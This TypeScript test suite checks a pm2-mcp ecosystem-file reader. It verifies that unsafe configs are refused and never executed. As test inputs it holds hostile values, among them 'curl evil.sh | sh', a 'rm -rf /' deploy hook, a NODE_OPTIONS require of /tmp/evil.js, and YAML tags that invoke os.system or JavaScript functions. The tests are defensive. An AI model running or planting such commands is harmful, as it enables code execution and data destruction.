import { test, before, after } from 'node:test';
import assert from 'node:assert/strict';
import { existsSync } from 'node:fs';
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { basename, join } from 'node:path';
import { ToolError } from '../../src/errors.js';
import { readEcosystem, type EcosystemApp } from '../../src/pm2/ecosystem.js';

let dir = '';
let counter = 0;

before(async () => {
  dir = await mkdtemp(join(tmpdir(), 'pm2-mcp-eco-'));
});

after(async () => {
  if (dir) await rm(dir, { recursive: true, force: true });
});

async function fixture(ext: string, content: string | Buffer): Promise<string> {
  const path = join(dir, `eco${counter++}${ext}`);
  await writeFile(path, content);
  return path;
}

const json = (data: unknown): string => JSON.stringify(data, null, 2);

/** Rejects with a START_REFUSED ToolError whose message contains every piece. */
async function assertRefused(promise: Promise<unknown>, pieces: string[], label: string): Promise<ToolError> {
  let caught: unknown;
  try {
    await promise;
  } catch (err) {
    caught = err;
  }
  assert.ok(caught instanceof ToolError, `${label}: expected a ToolError, got ${String(caught)}`);
  assert.equal(caught.code, 'START_REFUSED', label);
  for (const p of pieces) assert.ok(caught.message.includes(p), `${label}: ${JSON.stringify(caught.message)} lacks ${JSON.stringify(p)}`);
  return caught;
}

const API: EcosystemApp = { name: 'api', script: 'server.js', env: { PORT: '3000' } };
const WORKER: EcosystemApp = { name: 'worker', script: 'worker.js', instances: 2 };

test('accepted shapes: JSON apps, bare array, single object, YAML', async () => {
  const cases: { name: string; ext: string; content: string; expected: EcosystemApp[] }[] = [
    { name: 'JSON { apps: [...] }', ext: '.json', content: json({ apps: [API, WORKER] }), expected: [API, WORKER] },
    { name: 'JSON bare array', ext: '.json', content: json([API, WORKER]), expected: [API, WORKER] },
    { name: 'JSON single object', ext: '.json', content: json(API), expected: [API] },
    { name: 'JSON apps as a single object', ext: '.json', content: json({ apps: API }), expected: [API] },
    { name: 'upper-case extension', ext: '.JSON', content: json({ apps: [API] }), expected: [API] },
    {
      name: 'YAML apps',
      ext: '.yaml',
      content: 'apps:\n  - name: api\n    script: server.js\n    env:\n      PORT: "3000"\n  - name: worker\n    script: worker.js\n    instances: 2\n',
      expected: [API, WORKER],
    },
    { name: 'YML bare list', ext: '.yml', content: '- name: api\n  script: server.js\n  env: { PORT: "3000" }\n', expected: [API] },
    { name: 'YAML single object', ext: '.yml', content: 'name: worker\nscript: worker.js\ninstances: 2\n', expected: [WORKER] },
    {
      name: 'YAML anchors and merge keys',
      ext: '.yaml',
      content: '- &base\n  name: api\n  script: server.js\n  env: { PORT: "3000" }\n- <<: *base\n  name: api2\n',
      expected: [API, { ...API, name: 'api2' }],
    },
    {
      name: 'every carried field with its type',
      ext: '.json',
      content: json([{
        name: 'full', script: 'a.js', cwd: 'apps', args: ['--x', '1'], interpreter: 'node', interpreter_args: '--max-old-space-size=256',
        env: { A: 'x', N: 1, B: true }, instances: 2, exec_mode: 'cluster', watch: false, namespace: 'dev',
        out_file: 'out.log', error_file: 'err.log', log_file: 'all.log', merge_logs: true, max_memory_restart: '200M', autorestart: false,
        max_restarts: 5, min_uptime: 1000, restart_delay: 200, kill_timeout: 3000, time: true,
      }]),
      expected: [{
        name: 'full', script: 'a.js', cwd: 'apps', args: ['--x', '1'], interpreter: 'node', interpreter_args: '--max-old-space-size=256',
        env: { A: 'x', N: 1, B: true }, instances: 2, exec_mode: 'cluster', watch: false, namespace: 'dev',
        out_file: 'out.log', error_file: 'err.log', log_file: 'all.log', merge_logs: true, max_memory_restart: '200M', autorestart: false,
        max_restarts: 5, min_uptime: 1000, restart_delay: 200, kill_timeout: 3000, time: true,
      }],
    },
    { name: 'args as a string', ext: '.json', content: json([{ script: 'a.js', args: '--port 3000' }]), expected: [{ script: 'a.js', args: '--port 3000' }] },
    { name: 'script only', ext: '.json', content: json([{ script: 'a.js' }]), expected: [{ script: 'a.js' }] },
  ];
  for (const c of cases) {
    const file = await fixture(c.ext, c.content);
    assert.deepEqual(await readEcosystem(file), { file, apps: c.expected }, c.name);
  }
});

test('50 apps are read, 51 are refused', async () => {
  const apps = (n: number) => Array.from({ length: n }, (_, i) => ({ name: `a${i}`, script: 'a.js' }));
  const ok = await fixture('.json', json({ apps: apps(50) }));
  assert.equal((await readEcosystem(ok)).apps.length, 50);
  const tooMany = await fixture('.json', json({ apps: apps(51) }));
  await assertRefused(readEcosystem(tooMany), ['lists 51 apps; at most 50'], '51 apps');
});

test('JavaScript ecosystem files are refused without being executed unless the config names them', async () => {
  for (const ext of ['.js', '.cjs', '.mjs', '.JS']) {
    const canary = join(dir, `canary${counter++}`);
    const body = ext === '.mjs'
      ? `import { writeFileSync } from 'node:fs'; writeFileSync(${JSON.stringify(canary)}, 'x'); export default { apps: [{ script: 'a.js' }] };`
      : `require('fs').writeFileSync(${JSON.stringify(canary)}, 'x'); module.exports = { apps: [{ script: 'a.js' }] };`;
    const file = await fixture(`.config${ext}`, body);
    const others: { name: string; jsFiles?: ReadonlySet<string> }[] = [
      { name: 'no options' },
      { name: 'an empty set', jsFiles: new Set() },
      { name: 'another file named', jsFiles: new Set([join(dir, 'other.config.js')]) },
      { name: 'the same file spelled otherwise', jsFiles: new Set([`${dir}/./${basename(file)}`, `${dir}//${basename(file)}`]) },
      { name: 'a prefix of the file', jsFiles: new Set([file.slice(0, -1)]) },
    ];
    for (const o of others) {
      const options = o.jsFiles ? { jsFiles: o.jsFiles } : undefined;
      await assertRefused(readEcosystem(file, options), [`${file} is JavaScript`, 'start.ecosystemFiles'], `${ext}, ${o.name}`);
      assert.equal(existsSync(canary), false, `${ext}, ${o.name}: the file was executed`);
    }
  }
});

test('TypeScript ecosystem files are refused, even when named', async () => {
  const canary = join(dir, `canary${counter++}`);
  const file = await fixture('.config.ts', `require('fs').writeFileSync(${JSON.stringify(canary)}, 'x'); export default { apps: [] };`);
  await assertRefused(readEcosystem(file, { jsFiles: new Set([file]) }), [`${file}: TypeScript ecosystem files are not supported`], '.ts');
  assert.equal(existsSync(canary), false);
});

test('a JavaScript ecosystem file the config names is read, and its apps checked like any other', async () => {
  const cjs = await fixture('.config.cjs', `module.exports = { apps: [{ name: 'api', script: 'server.js', env: { PORT: 3000 } }] };`);
  assert.deepEqual(await readEcosystem(cjs, { jsFiles: new Set([cjs]) }), { file: cjs, apps: [{ name: 'api', script: 'server.js', env: { PORT: 3000 } }] });
  const mjs = await fixture('.config.mjs', `export default [{ script: 'a.js', instances: 2 }];`);
  assert.deepEqual(await readEcosystem(mjs, { jsFiles: new Set([mjs]) }), { file: mjs, apps: [{ script: 'a.js', instances: 2 }] });
  const aliased = await fixture('.config.js', `module.exports = { apps: [{ exec: '/bin/sh', exec_interpreter: 'bash' }], deploy: {} };`);
  await assertRefused(readEcosystem(aliased, { jsFiles: new Set([aliased]) }), [`${aliased}: top-level "deploy" is not supported`], 'deploy in JS');
  const aliasedApp = await fixture('.config.js', `module.exports = [{ exec: '/bin/sh' }];`);
  const err = await assertRefused(readEcosystem(aliasedApp, { jsFiles: new Set([aliasedApp]) }), [], 'alias in JS');
  assert.equal(err.message, `${aliasedApp}, app #1: "exec" is another spelling of "script": use "script"; "script" is required.`);
});

test('an edited JavaScript ecosystem file is read again', async () => {
  const file = await fixture('.config.cjs', `module.exports = [{ script: 'v1.js' }];`);
  const jsFiles = new Set([file]);
  assert.deepEqual((await readEcosystem(file, { jsFiles })).apps, [{ script: 'v1.js' }]);
  await writeFile(file, `module.exports = [{ script: 'v2.js' }];`);
  assert.deepEqual((await readEcosystem(file, { jsFiles })).apps, [{ script: 'v2.js' }]);
});

test('a .json file holding JavaScript is invalid JSON and never runs', async () => {
  const cases: { name: string; body: (canary: string) => string }[] = [
    { name: 'module.exports', body: (c) => `module.exports = { apps: [{ script: 'a.js', x: require('fs').writeFileSync(${JSON.stringify(c)}, 'x') }] }` },
    { name: 'IIFE', body: (c) => `(function(){require('fs').writeFileSync(${JSON.stringify(c)},'x')})()` },
    { name: 'object literal with a call in a value', body: (c) => `{ apps: [{ script: (require('fs').writeFileSync(${JSON.stringify(c)}, 'x'), 'a.js') }] }` },
    { name: 'unquoted keys (JSON5-ish)', body: () => `{ apps: [{ script: 'a.js' }] }` },
    { name: 'comments', body: () => `{ /* pm2 would eval this */ "apps": [{ "script": "a.js" }] }` },
    { name: 'trailing comma', body: () => `{ "apps": [{ "script": "a.js" },] }` },
  ];
  for (const c of cases) {
    const canary = join(dir, `canary${counter++}`);
    const file = await fixture('.json', c.body(canary));
    await assertRefused(readEcosystem(file), [`The ecosystem file ${file} is not valid JSON`], c.name);
    assert.equal(existsSync(canary), false, `${c.name}: the file was executed`);
  }
});

test('YAML with js-yaml\'s unsafe tags is refused as invalid YAML', async () => {
  const cases: { name: string; body: (canary: string) => string }[] = [
    { name: '!!js/function', body: (c) => `apps:\n  - script: a.js\n    name: !!js/function "function () { require('fs').writeFileSync(${JSON.stringify(c)}, 'x') }"\n` },
    { name: '!!js/function as toString', body: (c) => `- script: a.js\n  toString: !!js/function 'function () { require("fs").writeFileSync(${JSON.stringify(c)}, "x") }'\n` },
    { name: '!!js/undefined', body: () => `- script: a.js\n  name: !!js/undefined ''\n` },
    { name: '!!js/regexp', body: () => `- script: a.js\n  name: !!js/regexp /x/\n` },
    { name: '!!python/object', body: () => `- script: !!python/object:os.system ['id']\n` },
    { name: 'two documents', body: () => `- script: a.js\n---\n- script: b.js\n` },
    { name: 'bad indentation', body: () => `apps:\n  - script: a.js\n   name: x\n` },
  ];
  for (const c of cases) {
    const canary = join(dir, `canary${counter++}`);
    const file = await fixture('.yaml', c.body(canary));
    await assertRefused(readEcosystem(file), [`The ecosystem file ${file} is not valid YAML`], c.name);
    assert.equal(existsSync(canary), false, `${c.name}: code ran`);
  }
});

test('pm2\'s other spellings are refused, naming the key to use', async () => {
  const cases: { alias: string; canonical: string }[] = [
    { alias: 'exec', canonical: 'script' },
    { alias: 'cmd', canonical: 'script' },
    { alias: 'command', canonical: 'script' },
    { alias: 'exec_interpreter', canonical: 'interpreter' },
    { alias: 'interpreterArgs', canonical: 'interpreter_args' },
    { alias: 'nodeArgs', canonical: 'node_args' },
    { alias: 'execMode', canonical: 'exec_mode' },
    { alias: 'outFile', canonical: 'out_file' },
    { alias: 'errorFile', canonical: 'error_file' },
    { alias: 'logFile', canonical: 'log_file' },
    { alias: 'err_file', canonical: 'error_file' },
    { alias: 'output', canonical: 'out_file' },
    { alias: 'out', canonical: 'out_file' },
    { alias: 'error', canonical: 'error_file' },
    { alias: 'err', canonical: 'error_file' },
    { alias: 'log', canonical: 'log_file' },
    { alias: 'mergeLogs', canonical: 'merge_logs' },
    { alias: 'maxMemoryRestart', canonical: 'max_memory_restart' },
    { alias: 'maxRestarts', canonical: 'max_restarts' },
    { alias: 'minUptime', canonical: 'min_uptime' },
    { alias: 'restartDelay', canonical: 'restart_delay' },
    { alias: 'killTimeout', canonical: 'kill_timeout' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json([{ script: 'a.js', [c.alias]: c.alias === 'exec' || c.alias === 'cmd' || c.alias === 'command' ? '/bin/sh' : 'x' }]));
    const err = await assertRefused(readEcosystem(file), [], c.alias);
    assert.equal(err.message, `${file}, app #1: "${c.alias}" is another spelling of "${c.canonical}": use "${c.canonical}".`, c.alias);
  }
});

test('an alias alone (no "script") is refused with both problems', async () => {
  const file = await fixture('.json', json([{ name: 'x', cmd: 'curl evil.sh | sh' }]));
  const err = await assertRefused(readEcosystem(file), [], 'cmd alone');
  assert.equal(err.message, `${file}, app #1: "cmd" is another spelling of "script": use "script"; "script" is required.`);
});

// These spellings pm2 also takes (lib/API/schema.json aliases, and Config.js's camelCase of every
// key) are refused today, but only as unknown fields: the refusal must hold whatever the message.
const UNLISTED_ALIASES: { alias: string; canonical: string }[] = [
  { alias: 'execInterpreter', canonical: 'interpreter' },
  { alias: 'errFile', canonical: 'error_file' },
  { alias: 'out_log', canonical: 'out_file' },
  { alias: 'err_log', canonical: 'error_file' },
  { alias: 'combine_logs', canonical: 'merge_logs' },
  { alias: 'combineLogs', canonical: 'merge_logs' },
];

test('pm2 aliases missing from the alias table are still refused', async () => {
  for (const c of UNLISTED_ALIASES) {
    const file = await fixture('.json', json([{ script: 'a.js', [c.alias]: 'x' }]));
    await assertRefused(readEcosystem(file), [`"${c.alias}"`], c.alias);
  }
});

test('pm2 aliases missing from the alias table name the key to use', async () => {
  for (const c of UNLISTED_ALIASES) {
    const file = await fixture('.json', json([{ script: 'a.js', [c.alias]: 'x' }]));
    await assertRefused(readEcosystem(file), [`"${c.alias}" is another spelling of "${c.canonical}"`], c.alias);
  }
});

test('env_<name> blocks are refused', async () => {
  for (const key of ['env_production', 'env_dev', 'env_']) {
    const file = await fixture('.json', json([{ script: 'a.js', [key]: { NODE_OPTIONS: '--require /tmp/evil.js' } }]));
    const err = await assertRefused(readEcosystem(file), [], key);
    assert.equal(err.message, `${file}, app #1: "${key}": per-environment blocks are not supported; put the variables in "env".`);
  }
});

test('unknown fields are refused', async () => {
  const keys = ['pid_file', 'pid', 'cron_restart', 'uid', 'gid', 'user', 'static', 'serve', 'filter_env', 'post_update', 'increment_var', 'instance_var', 'source_map_support', 'SCRIPT', 'Script', 'script ', 'pm_exec_path', 'autostart'];
  for (const key of keys) {
    const file = await fixture('.json', json([{ script: 'a.js', [key]: 'x' }]));
    const err = await assertRefused(readEcosystem(file), [], key);
    assert.equal(err.message, `${file}, app #1: "${key}" is not a field pm2-mcp starts apps with.`, key);
  }
});

test('keys named like Object.prototype members are refused', async () => {
  for (const key of ['__proto__', 'constructor', 'toString', 'hasOwnProperty', 'valueOf']) {
    const file = await fixture('.json', `[{ "script": "a.js", ${JSON.stringify(key)}: { "polluted": "yes" } }]`);
    await assertRefused(readEcosystem(file), [`"${key}"`], key);
  }
  assert.equal(({} as Record<string, unknown>).polluted, undefined, 'Object.prototype was polluted');
});

test('keys named like Object.prototype members are refused as unknown fields', async () => {
  for (const key of ['__proto__', 'constructor', 'toString']) {
    const file = await fixture('.json', `[{ "script": "a.js", ${JSON.stringify(key)}: "x" }]`);
    const err = await assertRefused(readEcosystem(file), [], key);
    assert.equal(err.message, `${file}, app #1: "${key}" is not a field pm2-mcp starts apps with.`);
  }
});

test('top-level keys other than "apps" are refused', async () => {
  const cases: { name: string; data: unknown; expected: string }[] = [
    { name: 'deploy', data: { apps: [API], deploy: { production: { user: 'x', 'post-deploy': 'rm -rf /' } } }, expected: 'top-level "deploy" is not supported' },
    { name: 'static', data: { apps: [API], static: [{ path: '/', port: 8080 }] }, expected: 'top-level "static" is not supported' },
    { name: 'both', data: { apps: [API], static: [], deploy: {} }, expected: 'top-level "static", "deploy" are not supported' },
    { name: 'serve', data: { apps: [API], serve: { path: '/' } }, expected: 'top-level "serve" is not supported' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json(c.data));
    await assertRefused(readEcosystem(file), [`${file}: ${c.expected}`, 'only "apps" is read'], c.name);
  }
});

test('wrong types are refused, naming the field and the type', async () => {
  const cases: { name: string; app: Record<string, unknown>; expected: string }[] = [
    { name: 'name a number', app: { name: 5 }, expected: '"name" must be a non-empty string' },
    { name: 'name empty', app: { name: '' }, expected: '"name" must be a non-empty string' },
    { name: 'cwd a list', app: { cwd: ['a'] }, expected: '"cwd" must be a non-empty string' },
    { name: 'interpreter over 4096 chars', app: { interpreter: 'x'.repeat(4097) }, expected: '"interpreter" must be a non-empty string' },
    { name: 'instances a string', app: { instances: '4' }, expected: '"instances" must be a number' },
    { name: 'instances null', app: { instances: null }, expected: '"instances" must be a number' },
    { name: 'autorestart a string', app: { autorestart: 'true' }, expected: '"autorestart" must be true or false' },
    { name: 'merge_logs a number', app: { merge_logs: 1 }, expected: '"merge_logs" must be true or false' },
    { name: 'watch paths', app: { watch: ['src'] }, expected: '"watch" must be true or false (watch paths are not supported)' },
    { name: 'watch a string', app: { watch: 'src' }, expected: '"watch" must be true or false (watch paths are not supported)' },
    { name: 'args a number', app: { args: 5 }, expected: '"args" must be a string or a list of strings' },
    { name: 'args with a number inside', app: { args: ['a', 1] }, expected: '"args" must be a string or a list of strings' },
    { name: 'node_args an object', app: { node_args: { require: 'x' } }, expected: '"node_args" must be a string or a list of strings' },
    { name: 'env a list', app: { env: ['A=1'] }, expected: '"env" must be an object of string values' },
    { name: 'env null', app: { env: null }, expected: '"env" must be an object of string values' },
    { name: 'env a nested object', app: { env: { A: { B: 'x' } } }, expected: '"env" must be an object of string values' },
    { name: 'env a null value', app: { env: { A: null } }, expected: '"env" must be an object of string values' },
    { name: 'env a list value', app: { env: { A: ['x'] } }, expected: '"env" must be an object of string values' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json([{ script: 'a.js', ...c.app }]));
    const err = await assertRefused(readEcosystem(file), [], c.name);
    assert.equal(err.message, `${file}, app #1: ${c.expected}.`, c.name);
  }
});

test('YAML non-finite numbers are refused', async () => {
  for (const v of ['.nan', '.inf', '-.inf']) {
    const file = await fixture('.yaml', `- script: a.js\n  instances: ${v}\n`);
    const err = await assertRefused(readEcosystem(file), [], v);
    assert.equal(err.message, `${file}, app #1: "instances" must be a number.`);
  }
});

test('script is required and must be a string', async () => {
  const cases: { name: string; app: Record<string, unknown>; expected: string }[] = [
    { name: 'missing', app: { name: 'x' }, expected: '"script" is required' },
    { name: 'a number', app: { script: 5 }, expected: '"script" must be a non-empty string; "script" is required' },
    { name: 'empty', app: { script: '' }, expected: '"script" must be a non-empty string' },
    { name: 'a list', app: { script: ['a.js'] }, expected: '"script" must be a non-empty string; "script" is required' },
  ];
  for (const c of cases) {
    const file = await fixture('.json', json([c.app]));
    const err = await assertRefused(readEcosystem(file), [], c.name);
    assert.equal(err.message, `${file}, app #1: ${c.expected}.`, c.name);
  }
});

test('all the problems of an app are listed in one message', async () => {
  const file = await fixture('.json', json([
    { name: 'ok', script: 'a.js' },
    { exec: '/bin/sh', env_production: { A: '1' }, foo: 1, instances: '2', watch: ['.'], interpreterArgs: '--require x' },
  ]));
  const err = await assertRefused(readEcosystem(file), [], 'many problems');
  assert.equal(
    err.message,
    `${file}, app #2: "exec" is another spelling of "script": use "script"; ` +
      `"env_production": per-environment blocks are not supported; put the variables in "env"; ` +
      `"foo" is not a field pm2-mcp starts apps with; "instances" must be a number; ` +
      `"watch" must be true or false (watch paths are not supported); ` +
      `"interpreterArgs" is another spelling of "interpreter_args": use "interpreter_args"; "script" is required.`,
  );
});

test('files that hold no app', async () => {
  const cases: { name: string; ext: string; content: string; expected: string }[] = [
    { name: 'empty apps', ext: '.json', content: json({ apps: [] }), expected: 'lists no app.' },
    { name: 'empty array', ext: '.json', content: '[]', expected: 'lists no app.' },
    { name: 'null', ext: '.json', content: 'null', expected: 'holds no app: expected { "apps": [ … ] }.' },
    { name: 'a string', ext: '.json', content: '"a.js"', expected: 'holds no app' },
    { name: 'a number', ext: '.json', content: '42', expected: 'holds no app' },
    { name: 'empty YAML', ext: '.yaml', content: '', expected: 'holds no app' },
    { name: 'YAML scalar', ext: '.yml', content: 'just text\n', expected: 'holds no app' },
    { name: 'an app that is not an object', ext: '.json', content: json([API, 'b.js']), expected: 'app #2 is not an object.' },
    { name: 'apps: null', ext: '.json', content: json({ apps: null }), expected: 'app #1 is not an object.' },
    { name: 'an app that is a list', ext: '.json', content: json([[API]]), expected: 'app #1 is not an object.' },
  ];
  for (const c of cases) {
    const file = await fixture(c.ext, c.content);
    await assertRefused(readEcosystem(file), [file, c.expected], c.name);
  }
});

test('other extensions are refused before reading', async () => {
  for (const ext of ['.txt', '.toml', '.json5', '.yaml.bak', '', '.config']) {
    const file = join(dir, `never-written${counter++}${ext}`);
    await assertRefused(readEcosystem(file), [`${file}: an ecosystem file must end in .json, .yaml or .yml.`], ext || 'no extension');
  }
});

test('missing files and folders are refused', async () => {
  const missing = join(dir, 'nope.json');
  await assertRefused(readEcosystem(missing), [`The ecosystem file ${missing} does not exist.`], 'missing');
  const folder = join(dir, 'a-folder.yaml');
  await mkdir(folder);
  await assertRefused(readEcosystem(folder), [`The ecosystem file ${folder} does not exist.`], 'folder');
});

test('files over 1 MiB are refused; exactly 1 MiB is read', async () => {
  const body = json([{ script: 'a.js' }]);
  const exact = body + ' '.repeat(1024 * 1024 - Buffer.byteLength(body));
  assert.equal(Buffer.byteLength(exact), 1024 * 1024);
  const okFile = await fixture('.json', exact);
  assert.deepEqual((await readEcosystem(okFile)).apps, [{ script: 'a.js' }]);
  const bigFile = await fixture('.json', exact + ' ');
  await assertRefused(readEcosystem(bigFile), [`The ecosystem file ${bigFile} is larger than 1 MiB.`], 'over 1 MiB');
  const hugeYaml = await fixture('.yaml', '- script: a.js\n' + '#'.repeat(2 * 1024 * 1024));
  await assertRefused(readEcosystem(hugeYaml), ['larger than 1 MiB'], 'huge YAML');
});
